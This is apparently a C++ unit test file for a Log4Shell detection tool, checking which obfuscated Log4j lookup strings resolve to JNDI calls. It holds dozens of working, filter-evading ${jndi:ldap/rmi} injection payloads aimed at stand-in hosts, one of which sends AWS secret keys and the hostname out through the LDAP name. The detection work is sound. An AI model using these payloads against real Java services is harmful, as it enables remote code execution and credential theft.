#include "hunt/evaluator.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace l4s::hunt {
namespace {

using Names = std::vector<std::string>;

Evaluation subst(std::string_view text, const LookupEnvironment& env = {}) {
  return evaluate_lookups(text, EvalPath::kSubstitute, env);
}

Evaluation message(std::string_view text, const LookupEnvironment& env = {}) {
  return evaluate_lookups(text, EvalPath::kMessage, env);
}

// The catalogue of research/hunting.md section 1a: every string that reaches
// JndiLookup on 2.14.1 through plain substitution, with the exact name.
TEST(EvaluatorTest, ObfuscationsReachJndi) {
  struct Case {
    const char* payload;
    const char* name;
  } cases[] = {
      {"${jndi:ldap://x.example/a}", "ldap://x.example/a"},                                   // L1
      {"${JNDI:ldap://x.example/a}", "ldap://x.example/a"},                                   // L2
      {"${jNdI:ldAp://x.example/a}", "ldAp://x.example/a"},                                   // L2
      {"${jndi:${lower:l}${lower:d}a${lower:p}://loc${upper:a}lhost:1389/rce}", "ldap://locAlhost:1389/rce"},
      {"${${lower:jndi}:${lower:rmi}://x.example/a}", "rmi://x.example/a"},                   // L3
      {"${${upper:jndi}:${lower:LDAP}://x.example/a}", "ldap://x.example/a"},                 // L3
      {"${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}", "rmi://x.example/a"},          // L4
      {"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}", "rmi://x.example/a"},  // L5
      {"${${:-j}${:-n}${:-d}${:-i}:${:-l}${:-d}${:-a}${:-p}://x.example/a}", "ldap://x.example/a"},  // L5b
      {"${${::::::::::::::-j}ndi:ldap://x.example/a}", "ldap://x.example/a"},                 // L5c
      {"${${:  :  : : :::   :: :: :  :::-j}ndi:ldap://x.example/a}", "ldap://x.example/a"},  // L5c
      {"${${:+:+:-j}ndi:ldap://x.example/a}", "ldap://x.example/a"},                          // L5d
      {"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", "ldap://x.example/a"},
      {"${jnd${sys:SYS_NAME:-i}:ldap://x.example/a}", "ldap://x.example/a"},                  // L6
      {"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}", "ldap://x.example/a"},              // L6
      {"${jndi:ld${ozI:Kgh:Qn:TXM:-a}p:${DBEau:Y:pLXUu:-/}/x.example/a}", "ldap://x.example/a"},  // L6b
      {"${${AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA:"
       "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB:-j}ndi:ldap://x.example/a}",
       "ldap://x.example/a"},                                                                  // L6c
      {"${j${env:DOESNOTEXIST:-}ndi:ldap://x.example/a}", "ldap://x.example/a"},              // L6d
      {"${j${::-}ndi:ldap://x.example/a}", "ldap://x.example/a"},                             // L6d
      {"${${a:\\-:-j}ndi:ldap://x.example/a}", "ldap://x.example/a"},                         // L6e
      {"${jnd${123%25ff:-${123%25ff:-i:}}ldap://x.example/a}", "ldap://x.example/a"},          // L6f
      {"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", "ldap://x.example/a"},  // L7
      {"${jn${date:}di:ldap://x.example/a}", "ldap://x.example/a"},                           // L7
      {"${jnd${upper:\xC4\xB1}:ldap://x.example/a}", "ldap://x.example/a"},                   // L8: U+0131
      {"${jndi:rmi:${sys:file.separator}${sys:file.separator}x.example:1234${sys:file.separator}a}",
       "rmi://x.example:1234/a"},                                                              // L9
      {"${lower:$${jndi:ldap://x.example/a}}", "ldap://x.example/a"},                         // L10
      {"${${jndi:ldap://x.example/a}}", "ldap://x.example/a"},                                // L12
      {"${ctx:${jndi:ldap://x.example/a}}", "ldap://x.example/a"},                            // L12
      {"${jndi:ldap:/x.example/a}", "ldap:/x.example/a"},                                     // L15
      {"${jndi:ldap://127.0.0.1#x.example:1389/a}", "ldap://127.0.0.1#x.example:1389/a"},     // L16
      {"${jndi:x.example/a}", "java:comp/env/x.example/a"},  // no ':' -> container prefix
      {"${jndi:java:comp/env/jdbc/x}", "java:comp/env/jdbc/x"},
  };
  for (const Case& c : cases) {
    Evaluation e = subst(c.payload);
    EXPECT_EQ(e.outcome, EvalOutcome::kCompleted) << c.payload;
    ASSERT_FALSE(e.jndi_names.empty()) << c.payload;
    EXPECT_EQ(e.jndi_names[0], c.name) << c.payload;
  }
}

TEST(EvaluatorTest, NearMissesDoNotReachJndi) {
  for (const char* payload : {
           "${jndi :ldap://x.example/a}",                 // L18: prefix is "jndi "
           "${jn${base64:ZGk=}:ldap://x.example/a}",      // L17: there is no base64 lookup
           "${jnd${lower:\xC4\xB1}:ldap://x.example/a}",  // lower(ı) is ı
           "${jnd${lower:\xC4\xB0}:ldap://x.example/a}",  // lower(İ) is "i\u0307"
           "${${date:j}ndi:ldap://x.example/a}",          // illegal pattern: the default date string
           "$${jndi:ldap://x.example/a}",                 // escaped
           "${jndi:ldap://x.example/a",                   // unclosed
           "${jenkins.url} node dispatched in 3 ms: load avg p: 0.1",
           "Property ${jboss.server.base.dir} jndi binding: ldap://corp.example:389/dc=corp",
       }) {
    EXPECT_TRUE(subst(payload).jndi_names.empty()) << payload;
    EXPECT_TRUE(message(payload).jndi_names.empty()) << payload;
  }
}

// L11: "${" produced or unescaped by one pass is evaluated by the %m rescan.
TEST(EvaluatorTest, MessagePathRescans) {
  for (const char* payload : {"$${jndi:ldap://x.example/a} ${nope}", "${date:'$'}{jndi:ldap://x.example/a} ${x}",
                              "${x:-$}{jndi:ldap://x.example/a} ${y}"}) {
    EXPECT_TRUE(subst(payload).jndi_names.empty()) << payload;
    EXPECT_EQ(message(payload).jndi_names, Names{"ldap://x.example/a"}) << payload;
  }
}

// The %m path substitutes the whole message again at each later "${": one
// event calls JNDI several times (hunting.md measured 13 calls for T40).
TEST(EvaluatorTest, MessagePathRepeatsCalls) {
  Evaluation e = message("${jndi:ldap://a/b} ${x} ${y}");
  EXPECT_EQ(e.jndi_call_count, 3u);
  EXPECT_EQ(e.jndi_names, Names{"ldap://a/b"});
  EXPECT_EQ(subst("${jndi:ldap://a/b} ${x} ${y}").jndi_call_count, 1u);
}

TEST(EvaluatorTest, MessagePathCountsUtf16Units) {
  // After the first pass replaces ${date:'\U0001F600'} (a surrogate pair in
  // Java), the loop index lands on the pair's second unit, then on "${".
  Evaluation e = message("${date:'\xF0\x9F\x98\x80'}$${jndi:ldap://a/b} ${x}");
  EXPECT_EQ(e.jndi_names, Names{"ldap://a/b"});
}

TEST(EvaluatorTest, DefaultsAndDelimiters) {
  EXPECT_EQ(subst("${a:b:-c:-d}").output, "c:-d");  // the first ":-" wins
  EXPECT_EQ(subst("${foo:bar}").output, "${foo:bar}");
  EXPECT_EQ(subst("${::-x}").output, "x");
  EXPECT_EQ(subst("${x:\\-y:-z}").output, "z");       // name "x:y" is absent
  EXPECT_EQ(subst("${hostName}").output, "victim-host");
  EXPECT_EQ(subst("${nope:hostName}").output, "victim-host");  // unknown prefix -> properties
  EXPECT_EQ(subst("${env:X:-j}").output, "j");
  EXPECT_EQ(subst("${lower:}").output, "");
  EXPECT_EQ(subst("$${x}").output, "${x}");
  EXPECT_EQ(subst("$$${x}").output, "$${x}");
  EXPECT_EQ(subst("${${}}").output, "${${}}");
}

TEST(EvaluatorTest, JavaCaseMapping) {
  EXPECT_EQ(subst("${upper:\xC4\xB1}").output, "I");             // U+0131
  EXPECT_EQ(subst("${upper:\xC5\xBF}").output, "S");             // U+017F
  EXPECT_EQ(subst("${lower:\xE2\x84\xAA}").output, "k");         // U+212A KELVIN SIGN
  EXPECT_EQ(subst("${upper:\xC3\x9F}").output, "SS");            // U+00DF
  EXPECT_EQ(subst("${lower:\xC4\xB0}").output, "i\xCC\x87");     // U+0130 -> i + U+0307
  EXPECT_EQ(subst("${JNDI:x}").jndi_names, Names{"java:comp/env/x"});
  EXPECT_NE(subst("${JNDI:x}").techniques & kTechPrefixCase, 0u);
  EXPECT_NE(subst("${upper:\xC4\xB1}").techniques & kTechUnicodeCase, 0u);
}

TEST(EvaluatorTest, DateLookup) {
  LookupEnvironment env;
  env.time_millis = 1639150000123;  // 2021-12-10T15:26:40.123Z
  EXPECT_EQ(subst("${date:'j'}", env).output, "j");
  EXPECT_EQ(subst("${date:}", env).output, "");
  EXPECT_EQ(subst("${date:''}", env).output, "'");
  EXPECT_EQ(subst("${date:yyyy-MM-dd}", env).output, "2021-12-10");
  EXPECT_EQ(subst("${date:j}", env).output, "12/10/21, 3:26 PM");
}

TEST(EvaluatorTest, Recursion) {
  Evaluation e = subst("${${::-${::-$${::-j}}}}");  // L14
  EXPECT_EQ(e.outcome, EvalOutcome::kInfiniteLoop);
  EXPECT_NE(e.techniques & kTechRecursion, 0u);
  EXPECT_EQ(subst("${event:Message}").outcome, EvalOutcome::kInfiniteLoop);
  // Through a name, each level starts a fresh cycle list: Java overflows its stack.
  EXPECT_EQ(subst("${${event:Message}}").outcome, EvalOutcome::kStackOverflow);
  LookupEnvironment no_file;
  no_file.config_file = false;  // DefaultConfiguration has no event lookup
  EXPECT_EQ(subst("${${event:Message}}", no_file).outcome, EvalOutcome::kCompleted);
}

TEST(EvaluatorTest, JavaLookupErrorsDropTheEvent) {
  Evaluation e = subst("${jndi:ldap://a/b}${java:xx:-j}${jndi:ldap://c/d}");
  EXPECT_EQ(e.outcome, EvalOutcome::kLookupError);
  EXPECT_EQ(e.jndi_names, Names{"ldap://a/b"});  // calls made before the exception count
}

TEST(EvaluatorTest, Exfiltration) {
  Evaluation e = subst("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/${hostName}/${java:version}}");
  EXPECT_EQ(e.jndi_names, Names{"ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/victim-host/Java version 1.8.0_181"});
  EXPECT_EQ(e.exfiltrated, (Names{"env:AWS_SECRET_ACCESS_KEY", "hostName", "java:version"}));
  // Padding is not exfiltration, nor are separators.
  e = subst("${${env:NaN:-j}ndi:ldap:${sys:file.separator}/x.example/${env:X:-a}}");
  EXPECT_EQ(e.jndi_names, Names{"ldap://x.example/a"});
  EXPECT_TRUE(e.exfiltrated.empty());
  // Lookups outside the JNDI name are not exfiltration either.
  EXPECT_TRUE(subst("${env:USER} ${jndi:ldap://x.example/a}").exfiltrated.empty());
}

TEST(EvaluatorTest, BoundsHostileInput) {
  // LOG4J2-3230-style nesting: cut at max_depth instead of overflowing our stack.
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "${::-";
  deep += "j";
  for (int i = 0; i < 100000; ++i) deep += "}";
  Evaluation e = subst(deep);
  EXPECT_TRUE(e.outcome == EvalOutcome::kStackOverflow || e.outcome == EvalOutcome::kBudgetExceeded);

  // The %m rescan can grow the text forever.
  e = message("a ${x} $${event:Message}b");
  EXPECT_EQ(e.outcome, EvalOutcome::kBudgetExceeded);

  // Many placeholders: the unchanged passes are replayed, not recomputed.
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "${x} ";
  many += "${jndi:ldap://a/b}";
  e = message(many);
  EXPECT_EQ(e.outcome, EvalOutcome::kCompleted);
  EXPECT_EQ(e.jndi_call_count, 20001u);
  EXPECT_EQ(e.jndi_calls.size(), EvalLimits{}.max_recorded_calls);
}

void expect_same(const Evaluation& a, const Evaluation& b, const std::string& why) {
  EXPECT_EQ(a.outcome, b.outcome) << why;
  EXPECT_EQ(a.output, b.output) << why;
  EXPECT_EQ(a.jndi_calls, b.jndi_calls) << why;
  EXPECT_EQ(a.jndi_call_count, b.jndi_call_count) << why;
  EXPECT_EQ(a.jndi_names, b.jndi_names) << why;
  EXPECT_EQ(a.exfiltrated, b.exfiltrated) << why;
  EXPECT_EQ(a.techniques, b.techniques) << why;
}

// evaluate_both_paths_in shares the %m path's first pass with the substitute
// path: it must give exactly what the two separate calls give, whatever the
// text and however tight the limits (a shared pass must not dodge a budget
// the separate call would have run out of).
TEST(EvaluatorTest, BothPathsAtOnceEqualsEachPath) {
  static constexpr std::string_view kPieces[] = {
      "${", "}", "$", "{", ":-", ":\\-", "jndi:", "ldap://a/", "lower:", "upper:J", "env:X", "::-j", "${jndi:ldap://h/x}",
      "$${", "${event:Message}", "${date:'$'}", "${x:-$}", "a", " ", "ctx:", "${sys:file.separator}", "java:nope",
      "${${", "nd", "i:", "\xc4\xb1", "event:Level", "}}", "${hostName}", "$$"};
  EvalLimits tight[5];
  tight[1].max_steps = 40;
  tight[2].max_steps = 300;
  tight[3].max_depth = 3;
  tight[3].max_text = 64;
  tight[4].max_recorded_calls = 1;
  uint64_t state = 12345;
  auto next = [&] {
    state = state * 6364136223846793005u + 1442695040888963407u;
    return static_cast<size_t>(state >> 33);
  };
  LookupEnvironment env;
  env.thread_context["x"] = "${jndi:ldap://ctx/y}";
  for (int i = 0; i < 20000; ++i) {
    std::string text;
    for (size_t n = 1 + next() % 14; n > 0; --n) text += kPieces[next() % std::size(kPieces)];
    const EvalLimits& limits = tight[next() % std::size(tight)];
    const size_t first = text.find("${");
    for (size_t tail : {size_t{0}, first == std::string::npos ? text.size() : first}) {
      Evaluation s, m;
      evaluate_both_paths_in(text, tail, env, limits, &s, &m);
      expect_same(s, evaluate_lookups_in(text, tail, EvalPath::kSubstitute, env, limits), text + " (substitute)");
      expect_same(m, evaluate_lookups_in(text, tail, EvalPath::kMessage, env, limits), text + " (message)");
    }
    if (::testing::Test::HasFailure()) break;
  }
}

TEST(EvaluatorTest, TechniqueNames) {
  EXPECT_EQ(technique_names(kTechDefaultValue | kTechCaseLookup), (Names{"default_value", "case_lookup"}));
  EXPECT_EQ(technique_names(kTechMessageRescan), Names{"message_rescan"});
}

}  // namespace
}  // namespace l4s::hunt
